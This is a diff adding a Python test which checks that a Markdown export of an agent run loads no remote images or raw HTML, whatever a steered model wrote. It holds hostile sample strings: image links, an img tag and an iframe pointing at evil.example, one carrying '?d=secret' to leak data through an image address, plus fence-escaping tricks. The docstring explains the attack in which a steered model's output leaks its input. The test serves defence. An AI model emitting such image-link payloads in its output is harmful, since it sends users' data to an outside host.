@@ -91,6 +91,64 @@ def test_output_in_a_markdown_export_cannot_leave_its_code_block() -> None:
     assert all(token.content != "Injected heading" for token in tokens if token.type == "inline")
 
 
+def test_a_markdown_export_loads_nothing_from_elsewhere_whatever_the_models_wrote() -> None:
+    """The answer, the prose and the messages a steered model writes become a report that a Markdown renderer
+    (CommonMark, markdown-it) displays without an image from elsewhere or any raw HTML, as the page does: the
+    input cannot leave in an image's address. Fenced code stays as written. Old behaviour (the attack pass):
+    `![x](https://evil.example/?d=…)` in the answer was an image in the report, and a child run's output left
+    its code block from its second line on."""
+    hostile = "\n".join(
+        [
+            "~~~",  # it would close a block the section before left open: the image after it would be prose
+            "![in a block](https://evil.example/g)",
+            "~~~",
+            "Done ![x](https://evil.example/a?d=secret) and <img src=https://evil.example/b>",
+            "![by reference][r]",
+            "",
+            "[r]: https://evil.example/c",
+            "- a list item",
+            "  ```",
+            "![after an indented fence](https://evil.example/d)",  # the item ends here, and its block with it
+            "```info`with a backtick is no fence",
+            "![after a false fence](https://evil.example/e)",
+            "<iframe src=https://evil.example/f></iframe>",
+            "```rust",
+            "let v = vec![1, 2]; // <b>kept</b>",
+            "```",
+            "~~~",
+            "left open: the next section of the report must not start inside it",
+        ]
+    )
+    events = [
+        _start("r1").model_dump(mode="json"),
+        {"type": "thought", "iteration": 1, "text": hostile},
+        {
+            "type": "final",
+            "answer": hostile,
+            "ready": True,
+            "iterations": 1,
+            "usage": {},
+            "elapsed_ms": 5,
+            "note": hostile,
+        },
+        {"type": "error", "code": "internal", "message": hostile},
+        {"type": "child", "depth": 1, "event": "output", "data": {"stdout": hostile, "error": hostile}},
+        {"type": "child", "depth": 1, "event": "error", "data": {"code": "internal", "message": hostile}},
+    ]
+    record = run_record("r1", 1000.0, prompt="```\n" + hostile)
+    record.answer = hostile
+    report = export_markdown(record, events)
+    tokens = MarkdownIt().parse(report)
+    inline = [child for token in tokens for child in token.children or []]
+    images = [child.attrGet("src") for child in inline if child.type == "image"]
+    html = [token.content for token in tokens + inline if token.type in ("html_block", "html_inline")]
+    fences = [token.content for token in tokens if token.type == "fence"]
+    assert images == [] and html == [], (images, html)
+    # the prompt, the thought, the note, the error, the answer, and the child's message; its output's two blocks
+    assert sum("let v = vec![1, 2]; // <b>kept</b>" in fence for fence in fences) == 8, fences
+    assert "https://evil.example/a?d=secret" in report  # shown, as a link's address, not loaded
+
+
 def test_a_running_run_is_not_deleted(store_factory: Callable[..., SqlRunStore]) -> None:
     """A run still running (here, or in another process of the history) is refused with `RunStillLive` and kept;
     once it has ended it is deleted. Mutant caught: the delete without its status check (the run was deleted
